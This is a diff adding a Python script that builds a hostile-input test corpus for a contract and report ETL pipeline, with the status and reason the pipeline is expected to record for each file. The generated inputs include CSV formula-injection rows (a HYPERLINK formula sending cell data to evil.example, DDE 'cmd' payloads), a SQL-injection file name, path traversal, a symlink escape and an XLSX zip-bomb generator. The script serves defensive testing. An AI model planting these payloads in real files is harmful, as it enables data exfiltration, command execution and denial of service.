@@ -1,0 +1,252 @@
+"""Write the hostile-input inbox: every kind of bad, odd or dangerous input the pipeline must survive.
+
+    python tests/hostile/make_corpus.py OUT_DIR
+
+Deterministic. Large files (1,500 pages, 2 million rows, a zip bomb) are generated, never committed. KINDS maps
+each inbox path to what the run must record for it: its registry status and words its reason must contain
+(None: any reason). The test runs the corpus through `outsourcing-etl run` like any inbox.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import shutil
+import sys
+import zipfile
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parents[2]
+SAMPLES = ROOT / "samples"
+ENGAGEMENT = "ito-infra-northwind"   # a real sample contract; its report metric names are known
+R = f"reports/{ENGAGEMENT}"
+
+# inbox path -> (kind, expected status, words the reason must contain)
+KINDS: dict[str, tuple[str, str, str | None]] = {
+    f"contracts/{ENGAGEMENT}.pdf": ("the good contract the reports refer to", "loaded", None),
+    "contracts/zero-byte.pdf": ("zero-byte file", "quarantined", "empty file"),
+    "contracts/truncated.pdf": ("truncated PDF", "quarantined", None),
+    "contracts/broken-xref.pdf": ("PDF with a broken xref table", "loaded", None),
+    "contracts/encrypted.pdf": ("encrypted PDF with a user password", "quarantined", "encrypted"),
+    # opens without a password and is read; its two-line text has no charges, which the contract suite reports
+    "contracts/encrypted-empty-password.pdf": ("encrypted PDF, empty user password", "quarantined", "annual charges"),
+    "contracts/really-html.pdf": ("HTML saved as .pdf", "quarantined", "not a PDF"),
+    "contracts/really-zip.pdf": ("ZIP saved as .pdf", "quarantined", "not a PDF"),
+    "contracts/long-1500-pages.pdf": ("1,500-page PDF", "quarantined", "1500 pages"),
+    "contracts/dense-page.pdf": ("a page with 200,000 characters", "quarantined", "characters"),
+    "contracts/deeply-nested.pdf": ("deeply nested PDF objects", None, None),
+    "contracts/scanned-image-only.pdf": ("image-only PDF (a scan)", "loaded", None),
+    "contracts/form-no-text.pdf": ("PDF with a form and no text", "quarantined", "no text"),
+    "contracts/vertrag-deutsch.pdf": ("contract in another language", None, None),
+    "contracts/northwind-copy.pdf": ("duplicate contract under another name", "unchanged", "same content as"),
+    'contracts/acme"; drop table file_registry;--.pdf': ("file name with quotes and semicolons", "loaded", None),
+    "contracts/outside-link.pdf": ("symlink out of the inbox (../../x.pdf)", "quarantined", "outside the inbox"),
+    f"{R}/..\\..\\x.csv": ("file name with path traversal characters", "loaded", None),
+    f"{R}/zero-byte.csv": ("zero-byte report", "quarantined", "empty file"),
+    f"{R}/zip-bomb.xlsx": ("XLSX zip bomb", "quarantined", "decompress"),
+    f"{R}/formulas-and-errors.xlsx": ("XLSX with formulas and #DIV/0!", "loaded", "rows quarantined"),
+    f"{R}/utf16.csv": ("CSV in UTF-16", "loaded", None),
+    f"{R}/latin1.csv": ("CSV in Latin-1", "loaded", None),
+    f"{R}/bom.csv": ("CSV with a byte-order mark", "loaded", None),
+    f"{R}/formula-injection.csv": ("CSV with formula injection", "loaded", "rows quarantined"),
+    f"{R}/two-million-rows.csv": ("CSV with 2 million rows", "quarantined", "limit"),
+    f"{R}/thousands-separators.csv": ("thousands separators of both conventions", "loaded", None),
+    f"{R}/impossible-percentages.csv": ("negative and impossible percentages", "loaded", "rows quarantined"),
+    f"{R}/future-dates.csv": ("dates in the future", "loaded", "rows quarantined"),
+    f"{R}/undefined-metric.csv": ("a metric the contract does not define", "loaded", "rows quarantined"),
+    f"{R}/ragged.csv": ("CSV with ragged rows and a stray quote", "loaded", None),
+    f"{R}/truncated.json": ("truncated JSON", "quarantined", "not valid JSON"),
+    f"{R}/report.docx": ("unsupported file type", "quarantined", "unsupported report type"),
+    f"{R}/really-text.xlsx": ("text file saved as .xlsx", "quarantined", "not a readable XLSX"),
+    "reports/no-such-engagement/2025-01.csv": ("report for an engagement with no contract", "quarantined", None),
+}
+
+HEADER = ["Reporting Month", "Service Level", "Target", "Actual", "Status"]
+
+
+def _csv(rows: list[list[str]], header=HEADER) -> str:
+    out = io.StringIO()
+    w = csv.writer(out)
+    w.writerow(header)
+    w.writerows(rows)
+    return out.getvalue()
+
+
+def _good_rows(month: str) -> list[list[str]]:
+    return [[month, "Server availability", "99.9%", "99.95%", "Met"],
+            [month, "P1 resolution time", "4", "3.5", "Met"],
+            [month, "First contact resolution", "75%", "78%", "Met"]]
+
+
+def _text_pdf(path: Path, pages: list[list[str]], font_size: float = 10, encrypt=None) -> None:
+    from reportlab.pdfgen import canvas
+
+    c = canvas.Canvas(str(path), encrypt=encrypt)
+    for lines in pages:
+        text = c.beginText(20, 820)
+        text.setFont("Helvetica", font_size)
+        for line in lines:
+            text.textLine(line)
+        c.drawText(text)
+        c.showPage()
+    c.save()
+
+
+def main(out: Path) -> None:
+    from reportlab.lib.pdfencrypt import StandardEncryption
+
+    out.mkdir(parents=True, exist_ok=True)
+    (out / "contracts").mkdir(exist_ok=True)
+    (out / R).mkdir(parents=True, exist_ok=True)
+    (out / "reports" / "no-such-engagement").mkdir(parents=True, exist_ok=True)
+    contract = SAMPLES / "contracts" / f"{ENGAGEMENT}.pdf"
+    good = contract.read_bytes()
+    shutil.copy(contract, out / f"contracts/{ENGAGEMENT}.pdf")
+
+    c = out / "contracts"
+    (c / "zero-byte.pdf").write_bytes(b"")
+    (c / "truncated.pdf").write_bytes(good[: len(good) // 3])
+    broken = good.replace(b"startxref", b"startxref\n999999999\n%", 1)
+    (c / "broken-xref.pdf").write_bytes(broken)
+    sample_text = [["MASTER SERVICES AGREEMENT", "This Agreement is made on 1 March 2025 between Acme Ltd.",
+                    '("Customer") and Widget Services Inc. ("Supplier").', "It is governed by the laws of England."]]
+    _text_pdf(c / "encrypted.pdf", sample_text, encrypt=StandardEncryption("open-sesame", "owner", strength=128))
+    _text_pdf(c / "encrypted-empty-password.pdf", sample_text, encrypt=StandardEncryption("", "owner", strength=128))
+    (c / "really-html.pdf").write_text("<!doctype html><html><body><h1>Contract</h1></body></html>\n")
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as z:
+        z.writestr("contract.txt", "not a pdf")
+    (c / "really-zip.pdf").write_bytes(buffer.getvalue())
+    _text_pdf(c / "long-1500-pages.pdf", [[f"Page {i + 1} of a very long annex."] for i in range(1500)])
+    _text_pdf(c / "dense-page.pdf", [["x" * 200 for _ in range(1000)]], font_size=0.5)
+    (c / "deeply-nested.pdf").write_bytes(_nested_pdf(depth=50_000))
+    shutil.copy(SAMPLES / "scanned" / "ito-infra-northwind-scanned.pdf", c / "scanned-image-only.pdf")
+    _form_pdf(c / "form-no-text.pdf")
+    _text_pdf(c / "vertrag-deutsch.pdf", [[
+        "RAHMENVERTRAG UEBER IT-DIENSTLEISTUNGEN", "Dieser Vertrag wird am 1. Maerz 2025 geschlossen zwischen",
+        "der Muster GmbH (\"Auftraggeber\") und der Beispiel AG (\"Auftragnehmer\").",
+        "Der Vertrag unterliegt deutschem Recht. Die Laufzeit betraegt drei Jahre."]])
+    shutil.copy(contract, c / "northwind-copy.pdf")
+    # a real contract under a hostile name
+    shutil.copy(SAMPLES / "contracts" / "bpo-finance-ledgerline.pdf", c / 'acme"; drop table file_registry;--.pdf')
+    outside = out.parent / f"{out.name}-outside.pdf"
+    outside.write_bytes(good)
+    (c / "outside-link.pdf").symlink_to(Path("..") / ".." / outside.name)
+
+    r = out / R
+    (r / "..\\..\\x.csv").write_text(_csv(_good_rows("2025-01")))
+    (r / "zero-byte.csv").write_bytes(b"")
+    _zip_bomb(r / "zip-bomb.xlsx", uncompressed_mb=120)
+    _formulas_xlsx(r / "formulas-and-errors.xlsx")
+    (r / "utf16.csv").write_bytes(_csv(_good_rows("2025-02")).encode("utf-16"))
+    latin = _csv(_good_rows("2025-03")).replace("Met", "Erfüllt")
+    (r / "latin1.csv").write_bytes(latin.encode("latin-1"))
+    (r / "bom.csv").write_bytes(b"\xef\xbb\xbf" + _csv(_good_rows("2025-04")).encode())
+    (r / "formula-injection.csv").write_text(_csv(_good_rows("2025-05") + [
+        ["2025-05", '=HYPERLINK("http://evil.example/?"&A1,"click")', "99%", "99%", "Met"],
+        ["2025-05", "+cmd|' /C calc'!A0", "1", "1", "Met"],
+        ["2025-05", "@SUM(1+1)*cmd|' /C calc'!A0", "1", "1", "Met"],
+        ["2025-05", "Change success rate", "98%", "=1+1", "Met"]]))
+    with (r / "two-million-rows.csv").open("w", newline="") as f:
+        w = csv.writer(f)
+        w.writerow(HEADER)
+        row = ["2025-06", "Server availability", "99.9%", "99.95%", "Met"]
+        for _ in range(2_000_000):
+            w.writerow(row)
+    (r / "thousands-separators.csv").write_text(_csv([
+        ["2025-07", "Server availability", "99.9%", "99,95%", "Met"],         # decimal comma
+        ["2025-07", "P1 resolution time", "4", "1,234.5", "Missed"],          # 1,234.5 hours
+        ["2025-08", "P1 resolution time", "4", "1.234,5", "Missed"]]))        # the same, the other way
+    (r / "impossible-percentages.csv").write_text(_csv([
+        ["2025-08", "Server availability", "99.9%", "99.95%", "Met"],
+        ["2025-08", "First contact resolution", "75%", "-12%", "Missed"],
+        ["2025-08", "Change success rate", "98%", "250%", "Met"]]))
+    (r / "future-dates.csv").write_text(_csv(_good_rows("2025-09") + [
+        ["2029-11", "Server availability", "99.9%", "99.99%", "Met"]]))
+    (r / "undefined-metric.csv").write_text(_csv(_good_rows("2025-10") + [
+        ["2025-10", "Coffee machine uptime", "99%", "12%", "Missed"]]))
+    (r / "ragged.csv").write_text(_csv([
+        ["2025-11", "Server availability", "99.9%", "99.95%", "Met", "extra", "cells"],
+        ["2025-11", "P1 resolution time", "4"],
+        ["2025-11", 'First contact "resolution', "75%", "80%", "Met"]]))
+    (r / "truncated.json").write_text('{"vendor": "Northwind", "rows": [{"period": "2025-12", "kpi": "Server av')
+    (r / "report.docx").write_bytes(b"PK\x03\x04 not really a docx")
+    (r / "really-text.xlsx").write_text(_csv(_good_rows("2025-12")))
+    (out / "reports" / "no-such-engagement" / "2025-01.csv").write_text(_csv(_good_rows("2025-01")[:2]))
+
+
+def _nested_pdf(depth: int) -> bytes:
+    """A one-page PDF whose page dictionary carries an array nested `depth` levels deep."""
+    nested = b"[" * depth + b"]" * depth
+    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Deep " + nested + b" >>"]
+    out, offsets = bytearray(b"%PDF-1.4\n"), []
+    for i, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
+    xref = len(out)
+    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
+    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
+    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
+    return bytes(out)
+
+
+def _form_pdf(path: Path) -> None:
+    from reportlab.pdfgen import canvas
+
+    c = canvas.Canvas(str(path))
+    c.acroForm.textfield(name="signature", x=100, y=600, width=300, height=24, value="", borderWidth=1)
+    c.rect(80, 560, 360, 100)
+    c.showPage()
+    c.save()
+
+
+def _zip_bomb(path: Path, uncompressed_mb: int) -> None:
+    """A workbook whose one sheet inflates to `uncompressed_mb` MB: a few hundred KB on disk."""
+    from openpyxl import Workbook
+
+    buffer = io.BytesIO()
+    wb = Workbook()
+    wb.active.append(HEADER)
+    wb.save(buffer)
+    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
+        for item in source.infolist():
+            if item.filename != "xl/worksheets/sheet1.xml":
+                target.writestr(item, source.read(item))
+        with target.open("xl/worksheets/sheet1.xml", "w") as sheet:
+            sheet.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
+                        b'spreadsheetml/2006/main"><sheetData>')
+            row = b'<row><c t="inlineStr"><is><t>2025-01</t></is></c><c t="inlineStr"><is><t>Server availability</t></is></c></row>'
+            chunk = row * 10_000
+            for _ in range(uncompressed_mb * 1024 * 1024 // len(chunk)):
+                sheet.write(chunk)
+            sheet.write(b"</sheetData></worksheet>")
+
+
+def _formulas_xlsx(path: Path) -> None:
+    """Formulas with cached results, as Excel saves them: one evaluates, one is #DIV/0!."""
+    from openpyxl import Workbook
+
+    wb = Workbook()
+    ws = wb.active
+    ws.append(HEADER)
+    ws.append(["2025-12", "Server availability", "99.9%", 99.95, "Met"])
+    ws.append(["2025-12", "P1 resolution time", "4", "=A1/0", "Met"])
+    ws.append(["2025-12", "First contact resolution", "75%", "=SUM(40,40)", "Met"])
+    wb.save(path)
+    # openpyxl writes formulas without cached values; put in the values Excel would have saved
+    with zipfile.ZipFile(path) as z:
+        parts = {i.filename: z.read(i) for i in z.infolist()}
+    sheet = parts["xl/worksheets/sheet1.xml"].decode()
+    for empty in ("<v></v>", "<v />", "<v/>"):
+        sheet = sheet.replace(f"<f>A1/0</f>{empty}", "<f>A1/0</f><v>#DIV/0!</v>").replace(
+            f"<f>SUM(40,40)</f>{empty}", "<f>SUM(40,40)</f><v>80</v>")
+    sheet = sheet.replace('<c r="D3"><f>A1/0</f>', '<c r="D3" t="e"><f>A1/0</f>')
+    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, data in parts.items():
+            z.writestr(name, data)
+
+
+if __name__ == "__main__":
+    main(Path(sys.argv[1]))
